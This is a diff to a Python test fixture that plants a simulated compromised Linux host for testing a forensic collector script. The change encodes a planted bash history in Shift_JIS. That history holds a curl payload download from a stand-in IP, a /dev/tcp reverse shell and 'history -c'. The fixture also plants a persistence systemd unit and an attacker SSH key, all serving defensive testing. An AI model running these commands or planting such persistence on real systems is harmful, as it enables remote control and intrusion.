@@ -16,9 +16,10 @@ COLLECTOR = os.path.join(REPO, "collectors", "linux", "kensa-collect.sh")
 
 
 def write(path, text, mode=0o644):
+    """Writes `text` (str as UTF-8, or bytes as they are) to `path` with `mode`."""
     os.makedirs(os.path.dirname(path), exist_ok=True)
-    with open(path, "w") as handle:
-        handle.write(text)
+    with open(path, "wb") as handle:
+        handle.write(text if isinstance(text, bytes) else text.encode("utf-8"))
     os.chmod(path, mode)
 
 
@@ -36,9 +37,10 @@ def plant_host(root):
     write(root + "/etc/systemd/system/dbus-helper.service",
           "[Service]\nExecStart=/tmp/.x/payload --daemon\n[Install]\nWantedBy=multi-user.target\n")
     write(root + "/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK attacker@evil\n", 0o600)
+    # The download line ends with a comment typed on a Japanese terminal set to Shift_JIS.
     write(root + "/home/alice/.bash_history",
-          "cd /tmp\ncurl -o /tmp/.x/payload http://198.51.100.7/p\nchmod +x /tmp/.x/payload\n"
-          "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nhistory -c\n")
+          ("cd /tmp\ncurl -o /tmp/.x/payload http://198.51.100.7/p  # \u66f4\u65b0\nchmod +x /tmp/.x/payload\n"
+           "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nhistory -c\n").encode("cp932"))
     guesses = "".join("Nov 26 08:%02d:%02d victim01 sshd[700]: Failed password for invalid user admin from 203.0.113.9 port 4%03d ssh2\n"
                       % (i // 60, i % 60, i) for i in range(25))
     write(root + "/var/log/auth.log", guesses +
